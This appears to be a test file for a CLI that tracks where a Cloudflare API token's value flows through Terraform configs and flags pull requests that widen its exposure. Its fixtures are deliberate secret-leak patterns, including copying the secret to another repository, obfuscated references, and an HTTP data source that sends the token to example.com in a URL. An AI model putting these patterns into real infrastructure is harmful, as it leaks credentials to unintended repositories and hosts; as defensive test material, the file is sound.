// The review gate on a token value passed on from block to block: any block that reads an
// attribute (whatever the attribute) of a block that received the value receives it too, and
// a new or moved one is wider. Base/head pairs of synth outputs through the compiled CLI
// (`diff --fail-on-widen --json`), plus `report` on the head for the "Value goes to" column.
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'fs';
import { tmpdir } from 'os';
import { join } from 'path';
import { CliRun, compileCli, removeCompiledCli, runCliProcess } from './compiled-cli';
import { DNS_WRITE_ID, ZONE } from './ids';

type Json = Record<string, any>;

const TOKEN = {
  '//': { metadata: { path: 'prod/dns/token' } },
  name: 'dns',
  policies: [{ effect: 'allow', permission_groups: [{ id: DNS_WRITE_ID }], resources: JSON.stringify({ [`com.cloudflare.api.account.zone.${ZONE}`]: '*' }) }],
  expires_on: '2027-01-01T00:00:00Z',
};

/** The secret that already receives the token value, in base and head alike. */
const EXISTING = { repository: 'infra', secret_name: 'CF_TOKEN', plaintext_value: '${cloudflare_api_token.dns.value}' };

/** A stack with the token `dns`, the secret `existing` fed from it, and `extra` blocks merged in (`resource` by type). */
function stack(extra: Json = {}): Json {
  const { resource, ...rest } = extra;
  const resources: Json = { cloudflare_api_token: { dns: TOKEN }, github_actions_secret: { existing: EXISTING } };
  for (const [type, blocks] of Object.entries((resource ?? {}) as Json)) resources[type] = { ...(resources[type] ?? {}), ...blocks };
  return { resource: resources, ...rest };
}

const copy = (repository: string, value: string) => ({ resource: { github_actions_secret: { copy: { repository, secret_name: 'COPY', plaintext_value: value } } } });

/** `n` `terraform_data` blocks, each reading the previous one's output, the first reading `first`. */
function chain(n: number, first: string): Json {
  const blocks: Json = {};
  for (let i = 0; i < n; i++) blocks[`c${i}`] = { input: i === 0 ? first : `\${terraform_data.c${i - 1}.output}` };
  return blocks;
}

interface Case {
  readonly base: Json;
  readonly head: Json;
  readonly verdict: 'wider' | 'both' | 'unchanged';
  /** Words the change must be described with. */
  readonly says?: string;
}

const CASES: Record<string, Case> = {
  "a new secret copied from the existing secret's plaintext_value (the adversarial reproduction)": {
    base: stack(),
    head: stack(copy('other-repo', '${github_actions_secret.existing.plaintext_value}')),
    verdict: 'wider',
    says: 'value now goes to GitHub Actions secret COPY of repository other-repo (github_actions_secret.copy)',
  },
  'the same, the reference spelled with spaces and a comment': {
    base: stack(),
    head: stack(copy('other-repo', '${github_actions_secret /* copy */ . existing . plaintext_value}')),
    verdict: 'wider',
    says: 'GitHub Actions secret COPY of repository other-repo',
  },
  'any attribute of a block holding the value counts (here its id, through lookup)': {
    base: stack(),
    head: stack(copy('other-repo', '${lookup(github_actions_secret.existing, "id")}')),
    verdict: 'wider',
    says: 'GitHub Actions secret COPY of repository other-repo',
  },
  'a copy of the copy moved to another repository is wider (both)': {
    base: stack(copy('infra', '${github_actions_secret.existing.plaintext_value}')),
    head: stack(copy('other-repo', '${github_actions_secret.existing.plaintext_value}')),
    verdict: 'both',
    says: 'value now goes to GitHub Actions secret COPY of repository other-repo',
  },
  'a data source given the value, read by a new variable': {
    base: stack({ data: { http: { probe: { url: 'https://example.com/?t=${cloudflare_api_token.dns.value}' } } } }),
    head: stack({
      data: { http: { probe: { url: 'https://example.com/?t=${cloudflare_api_token.dns.value}' } } },
      resource: { github_actions_variable: { leak: { repository: 'other-repo', variable_name: 'V', value: '${data . http . probe . response_body}' } } },
    }),
    verdict: 'wider',
    says: 'value now goes to github_actions_variable.leak (repository="other-repo"',
  },
  'through a local, a resource and then an output': {
    base: stack({ locals: { v: '${cloudflare_api_token.dns.value}' }, resource: { github_actions_secret: { viaLocal: { repository: 'infra', secret_name: 'L', plaintext_value: '${local.v}' } } } }),
    head: stack({
      locals: { v: '${cloudflare_api_token.dns.value}' },
      resource: { github_actions_secret: { viaLocal: { repository: 'infra', secret_name: 'L', plaintext_value: '${local.v}' } } },
      output: { leak: { value: '${github_actions_secret.viaLocal.plaintext_value}' } },
    }),
    verdict: 'wider',
    says: 'value now goes to output leak (NOT sensitive)',
  },
  "a module's output read by a new secret (the module was given the value)": {
    base: stack({ module: { m: { source: 'git::https://github.com/acme/m.git?ref=0123456789abcdef0123456789abcdef01234567', token: '${github_actions_secret.existing.plaintext_value}' } } }),
    head: stack({
      module: { m: { source: 'git::https://github.com/acme/m.git?ref=0123456789abcdef0123456789abcdef01234567', token: '${github_actions_secret.existing.plaintext_value}' } },
      resource: { github_actions_secret: { fromModule: { repository: 'other-repo', secret_name: 'M', plaintext_value: '${module.m.anything}' } } },
    }),
    verdict: 'wider',
    says: 'value now goes to GitHub Actions secret M of repository other-repo',
  },
  "a check block printing the existing secret's value in its message": {
    base: stack(),
    head: stack({ check: { show: { assert: [{ condition: '${false}', error_message: 'v=${github_actions_secret.existing.plaintext_value}' }] } } }),
    verdict: 'wider',
    says: 'value now goes to check show',
  },
  'a cycle of blocks reading each other ends, and each is a place': {
    base: stack(),
    head: stack({
      resource: {
        terraform_data: {
          a: { input: ['${github_actions_secret.existing.plaintext_value}', '${terraform_data.b.output}'] },
          b: { input: '${terraform_data.a.output}' },
        },
      },
    }),
    verdict: 'wider',
    says: 'value now goes to terraform_data.b',
  },
  'a chain 5000 blocks long reaches its end (no recursion)': {
    base: stack({ resource: { terraform_data: chain(5000, '${github_actions_secret.existing.id}') } }),
    head: stack({
      resource: {
        terraform_data: chain(5000, '${github_actions_secret.existing.id}'),
        github_actions_variable: { end: { repository: 'other-repo', variable_name: 'END', value: '${terraform_data.c4999.output}' } },
      },
    }),
    verdict: 'wider',
    says: 'value now goes to github_actions_variable.end (repository="other-repo"',
  },
  'the value as an object key (Terraform reads JSON property names as templates) into a new output': {
    base: stack(),
    head: stack({ output: { keyed: { value: { '${github_actions_secret.existing.plaintext_value}': 'x' } } } }),
    verdict: 'wider',
    says: 'value now goes to output keyed (NOT sensitive)',
  },
  'the token value itself as an object key of a new variable': {
    base: stack(),
    head: stack({ resource: { terraform_data: { keyed: { input: { '${cloudflare_api_token.dns.value}': 1 } } } } }),
    verdict: 'wider',
    says: 'value now goes to terraform_data.keyed',
  },
  "a new block reading only the token's id, and one reading that block, receive nothing": {
    base: stack(),
    head: stack({
      resource: {
        terraform_data: { ids: { input: '${cloudflare_api_token.dns.id}' } },
        github_actions_variable: { v: { repository: 'other-repo', variable_name: 'ID', value: '${terraform_data.ids.output}' } },
      },
    }),
    verdict: 'unchanged',
  },
  'a new block reading a block that never received the value receives nothing': {
    base: stack({ resource: { github_actions_secret: { unrelated: { repository: 'infra', secret_name: 'OTHER', plaintext_value: 'literal' } } } }),
    head: stack({
      resource: {
        github_actions_secret: {
          unrelated: { repository: 'infra', secret_name: 'OTHER', plaintext_value: 'literal' },
          copy: { repository: 'other-repo', secret_name: 'COPY', plaintext_value: '${github_actions_secret.unrelated.plaintext_value}' },
        },
      },
    }),
    verdict: 'unchanged',
  },
};

let root: string;
let work: string;
const diffs: Record<string, CliRun> = {};
const reports: Record<string, CliRun> = {};

function writeSynth(dir: string, config: Json): void {
  mkdirSync(join(dir, 'stacks', 'prod'), { recursive: true });
  writeFileSync(join(dir, 'manifest.json'), JSON.stringify({ version: '0.21.0', stacks: { prod: { synthesizedStackPath: 'stacks/prod/cdk.tf.json' } } }));
  writeFileSync(join(dir, 'stacks', 'prod', 'cdk.tf.json'), JSON.stringify(config));
}

beforeAll(async () => {
  root = compileCli();
  work = mkdtempSync(join(tmpdir(), 'value-chains-'));
  await Promise.all(
    Object.entries(CASES).map(async ([name, c], i) => {
      writeSynth(join(work, `${i}-base`), c.base);
      writeSynth(join(work, `${i}-head`), c.head);
      diffs[name] = await runCliProcess(root, ['diff', join(work, `${i}-base`), join(work, `${i}-head`), '--json', '--fail-on-widen']);
      reports[name] = await runCliProcess(root, ['report', join(work, `${i}-head`), '--json']);
    }),
  );
}, 120_000);
afterAll(() => {
  removeCompiledCli(root);
  rmSync(work, { recursive: true, force: true });
});

describe('a value passed on through blocks that received it', () => {
  test.each(Object.keys(CASES))('%s', (name) => {
    const c = CASES[name];
    const run = diffs[name];
    expect({ code: run.code, stderr: run.stderr }).toEqual({ code: c.verdict === 'unchanged' ? 0 : 1, stderr: '' });
    const diff = JSON.parse(run.stdout);
    if (c.verdict === 'unchanged') {
      expect(diff.changed).toEqual([]);
    } else {
      expect(diff.changed.map((t: Json) => t.verdict)).toEqual([c.verdict]);
      expect(diff.changed[0].changes.every((ch: Json) => ch.aspect === 'delivery')).toBe(true);
    }
    expect(diff.widened).toBe(c.verdict !== 'unchanged');
    if (c.says) expect(diff.changed[0].changes.map((ch: Json) => ch.description).join('\n')).toContain(c.says);
    // The report of the head lists the same places under "Value goes to".
    const report = JSON.parse(reports[name].stdout);
    const places: string[] = report.tokens[0].deliveries;
    expect(places).toContain('GitHub Actions secret CF_TOKEN of repository infra (github_actions_secret.existing)');
    if (c.says) expect(places.join('\n')).toContain(c.says.replace('value now goes to ', ''));
  });

  test('two tokens meeting in a diamond of locals, then a long chain of locals: each reaches the end, through `.value` or as a whole', async () => {
    const locals: Json = { x: '${cloudflare_api_token.dns.value}', y: '${cloudflare_api_token.other}', z: '${[local.x, local.y, local.x]}' };
    for (let i = 0; i < 3000; i++) locals[`l${i}`] = i === 0 ? '${local.z}' : `\${local.l${i - 1}}`;
    const config = stack({ resource: { cloudflare_api_token: { other: { ...TOKEN, '//': { metadata: { path: 'prod/other/token' } }, name: 'other' } } }, locals, output: { end: { value: '${local.l2999}', sensitive: true } } });
    writeSynth(join(work, 'diamond'), config);
    const run = await runCliProcess(root, ['report', join(work, 'diamond'), '--json']);
    expect({ code: run.code, stderr: run.stderr }).toEqual({ code: 0, stderr: '' });
    const byPath = Object.fromEntries(JSON.parse(run.stdout).tokens.map((t: Json) => [t.path, t.deliveries]));
    expect(byPath['prod/dns/token']).toEqual(['GitHub Actions secret CF_TOKEN of repository infra (github_actions_secret.existing)', 'output end (sensitive)']);
    expect(byPath['prod/other/token']).toEqual(['output end (sensitive) (references the whole token resource, value included)']);
  });

  test('the 5000-block chain lists every block on it once, and the token itself never', () => {
    const report = JSON.parse(reports['a chain 5000 blocks long reaches its end (no recursion)'].stdout);
    const places: string[] = report.tokens[0].deliveries;
    expect(places.filter((p) => p.startsWith('terraform_data.c'))).toHaveLength(5000);
    expect(new Set(places).size).toBe(places.length);
    expect(places.some((p) => p.includes('cloudflare_api_token'))).toBe(false);
  });
});
